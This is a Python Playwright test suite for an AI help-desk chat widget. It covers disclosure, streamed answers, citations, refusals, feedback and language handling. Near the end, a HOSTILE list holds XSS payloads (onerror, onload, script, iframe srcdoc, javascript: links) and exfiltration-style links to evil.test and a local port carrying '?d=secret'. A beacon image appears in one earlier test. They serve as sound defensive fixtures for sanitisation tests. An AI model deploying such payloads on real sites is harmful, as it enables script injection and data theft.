"""What a visitor sees: the answer as it arrives, its sources, the reader, and every outcome as what it is."""

from __future__ import annotations

import pytest
from help_stub import HelpStub
from nine_states import ask, settled
from playwright.sync_api import Page, expect
from sample_turns import CLAIM, CONFLICT, CZECH, EVIDENCE, INSUFFICIENT, LISTED, SSO, turn


def opened(page: Page, stub: HelpStub, **options: object) -> None:
    page.goto(stub.page(**options))  # type: ignore[arg-type]
    page.locator(".launcher").click()
    page.locator(".starters").wait_for()


def test_disclosure_greeting_and_starter_questions_come_first(page: Page, stub: HelpStub) -> None:
    opened(page, stub)
    expect(page.locator(".foot")).to_contain_text("AI assistant")
    expect(page.get_by_text("Hello from Example!")).to_be_visible()
    page.get_by_role("button", name="How do I set up SSO?").click()
    settled(page)
    assert [body["question"] for body in stub.asked()] == ["How do I set up SSO?"]


@pytest.mark.parametrize("wording", ["", "   ", "A machine answers here."])
def test_the_disclosure_can_be_worded_but_not_removed(page: Page, stub: HelpStub, wording: str) -> None:
    assert stub.settings is not None
    stub.settings["disclosure"] = wording
    opened(page, stub)
    expect(page.locator(".foot")).to_contain_text(wording.strip() or "You are talking to an AI assistant")


def test_steps_and_verified_text_show_while_the_answer_runs(page: Page, stub: HelpStub) -> None:
    reading = {"tool": "get_document", "input": {}, "articles": [{"id": "a", "title": "SSO setup", "form": "full"}]}
    stub.streams["q"] = [
        ("step", {"tool": "search", "input": {"query": "single sign-on"}, "articles": []}),
        ("hold", "one"),
        ("step", reading),
        ("hold", "two"),
        ("delta", {"text": "Open **Settings** and"}),
        ("hold", "three"),
        ("done", None),
    ]
    opened(page, stub)
    ask(page, "q")
    expect(page.locator(".steps li").last).to_have_text("Searching: single sign-on")
    stub.release("one")
    expect(page.locator(".steps li").last).to_have_text("Reading SSO setup")
    stub.release("two")
    expect(page.locator(".text")).to_have_text("Open Settings and")
    expect(page.locator(".answer")).to_have_attribute("aria-busy", "true")
    stub.release("three")
    settled(page)
    expect(page.locator(".steps")).to_have_count(0)
    expect(page.locator(".text")).to_contain_text("paste the metadata URL")


def test_a_chip_stands_only_where_show_is_not_false(page: Page, stub: HelpStub) -> None:
    absent = {name: value for name, value in SSO.items() if name != "show"} | {"id": "absent", "title": "Absent"}
    null = {**SSO, "id": "null", "title": "Null", "show": None}
    stub.answers["q"] = turn(sources=[SSO, LISTED, absent, null])
    opened(page, stub)
    ask(page, "q")
    settled(page)
    assert page.locator(".chip").all_inner_texts() == ["SSO setup", "Absent", "Null"]


def test_a_source_that_is_not_shown_stays_a_working_link(page: Page, stub: HelpStub) -> None:
    stub.articles["plans"] = {
        "id": "plans",
        "title": "Plans",
        "html": "<p>Two plans.</p>",
        "body": "",
        "url": "/articles/plans",
    }
    opened(page, stub)
    ask(page, "q")
    settled(page)
    page.locator(".text a", has_text="Plans").click()
    expect(page.locator(".cover")).to_contain_text("Two plans.")


def test_a_link_opens_the_reader_at_the_quoted_place_and_focus_comes_back(page: Page, stub: HelpStub) -> None:
    opened(page, stub)
    ask(page, "q")
    settled(page)
    link = page.locator(".text a", has_text="SSO setup")
    link.focus()
    page.keyboard.press("Enter")
    mark = page.locator("mark").first
    mark.wait_for()
    assert "".join(page.locator("mark").all_inner_texts()) == CLAIM["quote"]
    box, view = mark.bounding_box(), page.locator(".page").bounding_box()
    assert box
    assert view
    assert view["y"] <= box["y"] <= view["y"] + view["height"]
    expect(page.locator(".bar.article button")).to_be_focused()
    page.keyboard.press("Escape")
    expect(link).to_be_focused()


def test_each_link_leads_to_its_own_article(page: Page, stub: HelpStub) -> None:
    names = ("one", "two", "three")
    sources = [{**SSO, "id": name, "title": f"Article {name}", "url": f"/articles/{name}"} for name in names]
    said = [{"text": f"It says {name}.", "quote": f"The quote of {name}.", "source_id": name} for name in names]
    claims = [{**CLAIM, **one} for one in said]
    text = "\n\n".join(f"It says {name} ([here](/articles/{name}))." for name in (*names, "one"))
    stub.answers["q"] = turn(answer=text, sources=sources, claims=claims)
    opened(page, stub)
    ask(page, "q")
    settled(page)
    links = page.locator(".text a")
    hrefs = [link.get_attribute("href") for link in links.all()]
    assert hrefs == [f"{stub.url}/articles/{name}" for name in (*names, "one")]
    assert page.locator(".chip").all_inner_texts() == [source["title"] for source in sources]
    for number, name in enumerate(names):
        for place in (links.nth(number), page.locator(".chip").nth(number)):
            place.hover()
            expect(page.get_by_role("tooltip")).to_contain_text(f"The quote of {name}.")
            page.locator("#refdesk-title").hover()
            expect(page.get_by_role("tooltip")).to_have_count(0)


def test_an_article_that_has_lost_the_quoted_words_says_so(page: Page, stub: HelpStub) -> None:
    stub.articles["sso-setup"] = {**stub.articles["sso-setup"], "html": "<p>Rewritten.</p>"}
    opened(page, stub)
    ask(page, "q")
    settled(page)
    page.locator(".chip").click()
    expect(page.locator(".cover")).to_contain_text("no longer in this article")


def test_pictures_come_from_the_help_centre_only(page: Page, stub: HelpStub) -> None:
    beacon = '<img src="http://127.0.0.1:9/?d=secret"><img src="/media/a.png" alt="A form">'
    stub.articles["sso-setup"] = {**stub.articles["sso-setup"], "html": f"<p>{beacon}</p>"}
    opened(page, stub, csp=True)
    ask(page, "q")
    settled(page)
    page.locator(".chip").click()
    page.get_by_alt_text("A form").wait_for()
    assert page.locator(".cover img").count() == 1


def test_quote_and_section_show_on_hover_and_on_focus_and_escape_takes_them_away(page: Page, stub: HelpStub) -> None:
    opened(page, stub)
    ask(page, "q")
    settled(page)
    chip = page.locator(".chip")
    chip.hover()
    expect(page.get_by_role("tooltip")).to_contain_text(CLAIM["quote"])
    expect(page.get_by_role("tooltip")).to_contain_text("Section: Steps")
    page.get_by_role("tooltip").hover()
    expect(page.get_by_role("tooltip")).to_be_visible()
    page.locator(".bar h2").hover()
    expect(page.get_by_role("tooltip")).to_have_count(0)
    chip.focus()
    expect(page.get_by_role("tooltip")).to_be_visible()
    expect(chip).to_have_attribute("aria-describedby", "refdesk-tip")
    page.keyboard.press("Escape")
    expect(page.get_by_role("tooltip")).to_have_count(0)
    expect(page.locator("dialog")).to_be_visible()


def test_what_was_read_is_not_shown_again_to_a_pointer_that_rests(page: Page, stub: HelpStub) -> None:
    opened(page, stub)
    ask(page, "q")
    settled(page)
    page.locator(".chip").click()
    page.locator("mark").first.wait_for()
    page.keyboard.press("Escape")
    expect(page.locator(".cover")).to_have_count(0)
    box = page.locator(".chip").bounding_box()
    assert box
    page.mouse.move(box["x"] + box["width"] / 2 + 2, box["y"] + box["height"] / 2)
    expect(page.get_by_role("tooltip")).to_have_count(0)
    page.locator("#refdesk-title").hover()
    page.locator(".chip").hover()
    expect(page.get_by_role("tooltip")).to_be_visible()


def test_a_link_in_the_text_shows_the_quote_that_fits_its_sentence(page: Page, stub: HelpStub) -> None:
    other = {**CLAIM, "text": "Certificates are renewed every year.", "quote": "Renew the certificate once a year."}
    link = "([SSO setup](/articles/sso-setup))"
    stub.answers["q"] = turn(
        answer=f"Paste the metadata URL {link}.\n\nCertificates are renewed every year {link}.", claims=[CLAIM, other]
    )
    opened(page, stub)
    ask(page, "q")
    settled(page)
    for number, claim in enumerate([CLAIM, other]):
        page.locator(".text a").nth(number).hover()
        expect(page.get_by_role("tooltip").locator("blockquote")).to_have_text([claim["quote"]])
        page.locator("#refdesk-title").hover()
        expect(page.get_by_role("tooltip")).to_have_count(0)


def test_a_source_in_another_language_says_so(page: Page, stub: HelpStub) -> None:
    stub.answers["q"] = turn(sources=[SSO, CZECH])
    opened(page, stub)
    ask(page, "q")
    settled(page)
    assert page.locator(".chip").all_inner_texts() == ["SSO setup", "Faktury (in Czech)"]


def test_a_refusal_is_a_calm_state_with_nearby_topics_and_a_way_to_a_person(page: Page, stub: HelpStub) -> None:
    assert stub.settings is not None
    stub.settings["contact"] = {"url": "https://example.com/contact", "mail": "", "callback": ""}
    stub.answers["q"] = INSUFFICIENT
    opened(page, stub)
    ask(page, "q")
    settled(page)
    box = page.locator(".calm")
    expect(box).to_contain_text("do not answer that")
    expect(box).to_contain_text("Which countries are delivered to.")
    expect(page.locator(".sources")).to_have_count(0)
    expect(page.locator(".person")).to_have_attribute("href", "https://example.com/contact")
    page.locator(".topics a").click()
    page.locator(".cover mark, .cover p").first.wait_for()
    expect(page.locator(".cover h2")).to_have_text("SSO setup")


def test_what_the_articles_leave_open_and_what_was_cut_short_is_said(page: Page, stub: HelpStub) -> None:
    assert stub.settings is not None
    stub.settings["notice"] = "Prices may change."
    stub.answers["q"] = turn(missing_information=["What it costs."], truncated="length")
    opened(page, stub)
    ask(page, "q")
    settled(page)
    expect(page.locator(".answer")).to_contain_text("Not covered by the articles")
    expect(page.locator(".answer")).to_contain_text("What it costs.")
    expect(page.locator(".answer")).to_contain_text("This answer was cut short.")
    expect(page.locator(".answer")).to_contain_text("Prices may change.")


def test_a_question_back_offers_topics(page: Page, stub: HelpStub) -> None:
    topic = {"id": "sso-setup", "title": "SSO setup", "url": "/articles/sso-setup"}
    stub.answers["q"] = turn(kind="clarification", answer="Which of these?", sources=[], claims=[], suggestions=[topic])
    opened(page, stub)
    ask(page, "q")
    settled(page)
    expect(page.locator(".sources")).to_have_count(0)
    page.locator(".topics a").click()
    expect(page.locator(".cover h2")).to_have_text("SSO setup")


def test_excerpts_are_visibly_no_answer(page: Page, stub: HelpStub) -> None:
    stub.answers["q"] = EVIDENCE
    opened(page, stub)
    ask(page, "q")
    settled(page)
    box = page.locator(".excerpts")
    expect(box).to_contain_text("Not an answer")
    expect(box.locator("blockquote")).to_have_text("Paste the metadata URL of your identity provider.")
    expect(page.locator(".sources")).to_have_count(0)
    box.locator("a").click()
    page.locator("mark").first.wait_for()


@pytest.mark.parametrize(
    ("quote", "shown"),
    [
        ("| `boot(settings)` | puts the **widget** on the page |", "boot(settings) · puts the widget on the page"),
        ("Open [SSO setup](sso-setup.md) and press `Save`.", "Open SSO setup and press Save."),
        ("- First\n- Second", "- First\n- Second"),
    ],
)
def test_quotes_are_shown_as_they_are_read(page: Page, stub: HelpStub, quote: str, shown: str) -> None:
    evidence = [{**EVIDENCE["evidence"][0], "quote": quote}]
    stub.answers |= {"excerpts": {**EVIDENCE, "evidence": evidence}, "tip": turn(claims=[{**CLAIM, "quote": quote}])}
    opened(page, stub)
    ask(page, "excerpts")
    settled(page)
    assert page.locator(".excerpts blockquote").inner_text() == shown
    ask(page, "tip")
    settled(page)
    page.locator(".chip").hover()
    assert page.get_by_role("tooltip").locator("blockquote").inner_text() == shown


def test_a_conflict_shows_both_sides_and_chooses_none(page: Page, stub: HelpStub) -> None:
    stub.answers["q"] = CONFLICT
    opened(page, stub)
    ask(page, "q")
    settled(page)
    box = page.locator(".conflict")
    assert box.locator("blockquote").all_inner_texts() == ["Within 30 days.", "Do 14 dnů."]
    expect(box).to_contain_text("To decide: the newer date")
    expect(box).to_contain_text("Updated Jan 1, 2024")


def test_thumbs_with_a_comment_that_can_be_changed(page: Page, stub: HelpStub) -> None:
    opened(page, stub)
    ask(page, "q")
    settled(page)
    page.get_by_role("button", name="No", exact=True).click()
    page.get_by_label("What was missing?").fill("The screenshot")
    page.get_by_role("button", name="Send feedback").click()
    expect(page.get_by_text("Thank you for the feedback.")).to_be_visible()
    assert stub.turns["t_1"]["feedback"] == {"rating": "down", "comment": "The screenshot"}
    page.get_by_role("button", name="Yes", exact=True).click()
    expect(page.get_by_role("button", name="Yes", exact=True)).to_have_attribute("aria-pressed", "true")
    expect(page.get_by_role("button", name="No", exact=True)).to_have_attribute("aria-pressed", "false")


def test_what_opens_below_comes_into_view_and_the_latest_is_one_press_away(page: Page, stub: HelpStub) -> None:
    stub.answers["q"] = turn(answer="\n\n".join(["A paragraph of the answer."] * 40))
    page.set_viewport_size({"width": 1000, "height": 500})
    opened(page, stub)
    ask(page, "q")
    settled(page)
    latest = page.get_by_role("button", name="Jump to the latest message")
    latest.click()
    expect(latest).to_have_count(0)
    expect(page.get_by_role("textbox")).to_be_focused()
    page.get_by_role("button", name="No", exact=True).click()
    expect(page.get_by_role("button", name="Send feedback")).to_be_in_viewport(ratio=1)


def test_stop_ends_the_turn_on_the_server_and_shows_no_half_mark(page: Page, stub: HelpStub) -> None:
    stub.streams["q"] = [("delta", {"text": "Open **Sett"}), ("hold", "ever"), ("done", None)]
    opened(page, stub)
    ask(page, "q")
    page.get_by_text("Sett").wait_for()
    page.get_by_role("button", name="Stop answering").click()
    settled(page)
    assert stub.paths("POST", "/v1/turns/t_1/stop") == ["/v1/turns/t_1/stop"]
    expect(page.locator(".answer")).to_contain_text("You stopped this answer.")
    expect(page.locator(".answer .text")).not_to_contain_text("*")
    expect(page.get_by_role("textbox")).to_be_focused()


def test_escape_stops_first_and_closes_then(page: Page, stub: HelpStub) -> None:
    stub.streams["q"] = [("delta", {"text": "Open"}), ("hold", "ever"), ("done", None)]
    opened(page, stub)
    ask(page, "q")
    page.get_by_text("Open", exact=True).wait_for()
    page.keyboard.press("Escape")
    settled(page)
    expect(page.locator("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("dialog")).to_be_hidden()
    expect(page.locator(".launcher")).to_be_focused()


def test_copying_gives_numbers_and_visible_sources(page: Page, stub: HelpStub) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    opened(page, stub)
    ask(page, "q")
    settled(page)
    page.get_by_role("button", name="Copy answer").click()
    page.get_by_role("button", name="Copied").wait_for()
    text = page.evaluate("navigator.clipboard.readText()")
    assert text == (
        "Open Settings and paste the metadata URL (SSO setup [1]). Which plan you need is in Plans.\n\n"
        f"Sources:\n[1] SSO setup {stub.url}/articles/sso-setup"
    )


def test_a_new_conversation_and_the_way_back_to_an_earlier_one(page: Page, stub: HelpStub) -> None:
    stub.answers["second"] = turn(answer="Another answer.", sources=[])
    opened(page, stub)
    ask(page, "first")
    settled(page)
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".asked")).to_have_count(0)
    ask(page, "second")
    settled(page)
    assert [body["conversation_id"] for body in stub.asked()] == [None, None]
    page.get_by_role("button", name="Earlier conversations").click()
    page.get_by_role("button", name="first", exact=False).first.click()
    expect(page.locator(".asked")).to_have_text("You asked: first")
    expect(page.locator(".chip")).to_have_text("SSO setup")
    ask(page, "third")
    settled(page)
    assert stub.asked()[-1]["conversation_id"] == "c_1"
    page.get_by_role("button", name="Earlier conversations").click()
    page.get_by_role("button", name="Delete “second”").click()
    expect(page.get_by_text("second")).to_have_count(0)
    assert stub.paths("DELETE", "/v1/conversations") == ["/v1/conversations/c_2"]


@pytest.mark.parametrize(
    ("language", "label"), [("en", "Ask a question…"), ("ru-RU", "Задайте вопрос…"), ("cs", "Položte otázku…")]
)
def test_three_languages_follow_the_page(page: Page, stub: HelpStub, language: str, label: str) -> None:
    page.goto(stub.page(lang=language))
    page.locator(".launcher").click()
    expect(page.get_by_role("textbox")).to_have_attribute("placeholder", label)


def test_direction_is_the_messages_own(page: Page, stub: HelpStub) -> None:
    stub.answers["كيف؟"] = turn(
        answer="افتح Refdesk `cp [-r] src` ([SSO setup](/articles/sso-setup)).\n\n```\ncp -r src\n```", language="ar"
    )
    opened(page, stub)
    ask(page, "كيف؟")
    settled(page)
    read = "(e) => getComputedStyle(e).direction"
    assert page.locator(".asked").evaluate(read) == "rtl"
    assert page.locator(".answer").evaluate(read) == "rtl"
    assert page.locator(".composer").evaluate(read) == "ltr"
    assert page.locator(".answer code").first.evaluate("(e) => getComputedStyle(e).unicodeBidi") == "isolate"
    assert [code.evaluate(read) for code in page.locator(".answer code").all()] == ["ltr", "ltr"]
    expect(page.locator(".chip")).to_have_text("SSO setup (in English)")
    ask(page, "and in English?")
    settled(page)
    assert [each.evaluate(read) for each in page.locator(".asked").all()] == ["rtl", "ltr"]
    assert [each.evaluate(read) for each in page.locator(".answer").all()] == ["rtl", "ltr"]


HOSTILE = [
    '<img src=x onerror="window.hacked=1"> <svg onload="window.hacked=1"></svg> <script>window.hacked=1</script>',
    "![x](http://127.0.0.1:9/?d=secret) [bad](javascript:window.hacked=1) [data](data:text/html,<script>1</script>)",
    "[a][r] ![b][r]\n\n[r]: https://evil.test/?d=x\n\n<https://user:pw@evil.test> www.evil.test https://evil.test/x",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><style>@import url(http://127.0.0.1:9)</style>",
    "<form action=http://127.0.0.1:9><base href=http://127.0.0.1:9><meta http-equiv=refresh content='0;url=http://127.0.0.1:9'>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_and_nothing_is_loaded(page: Page, stub: HelpStub, text: str) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    title = {**SSO, "title": "<img src=x onerror=window.hacked=1>"}
    stub.answers["q"] = turn(answer=text, sources=[title])
    stub.streams["q"] = [("delta", {"text": text[:20]}), ("delta", {"text": text[20:]}), ("done", None)]
    opened(page, stub)
    ask(page, "q")
    settled(page)
    expect(page.locator(".chip")).to_have_text(title["title"])
    assert page.evaluate("window.hacked") is None
    assert page.locator(".answer").locator("img, script, iframe, style, form, svg:not([aria-hidden])").count() == 0
    assert page.locator(".answer .text a").count() == 0
    assert all(url.startswith(stub.url) for url in requests), requests
